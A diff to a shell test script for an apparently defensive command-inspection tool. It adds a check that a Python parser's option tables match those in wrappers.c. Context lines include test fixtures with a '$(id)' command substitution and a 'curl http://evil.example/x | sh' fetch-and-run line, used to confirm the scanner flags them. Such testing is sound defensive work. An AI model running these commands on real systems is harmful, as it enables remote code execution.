@@ -309,6 +309,24 @@ END
 printf 'cat <<E\n./evil\n: "$(id)"\n' >no-end.sh
 finds no-end.sh 1 syntax 'a here-document has no end line'
 
+# Options of programs that start others: the shell parser has those that have an argument as wrappers.c has them.
+python3 - "$SRC" >out <<'END' || fail "options of wrappers: $(cat out)"
+import re, sys
+sys.dont_write_bytecode = True
+sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
+from shell_names import OPERANDS, PREFIXES
+rows = re.findall(r"\{(\.name = [^}]*)\}", open(sys.argv[1] + "/cli/inspect/wrappers.c").read())
+table = {re.search(r'name = "([^"]*)"', row).group(1): row for row in rows}
+for name in set(PREFIXES) - {"sudo", "doas"}:
+    letters = re.search(r'letters = "([^"]*)"', table[name])
+    operands = re.search(r"operands = (\d)", table[name])
+    if PREFIXES[name] != (letters.group(1) if letters else "") or str(OPERANDS.get(name, "")) != (
+        operands.group(1) if operands else ""
+    ):
+        print(name, table[name])
+        sys.exit(1)
+END
+
 # What is too much for a parser does not pass for harmless.
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
 finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
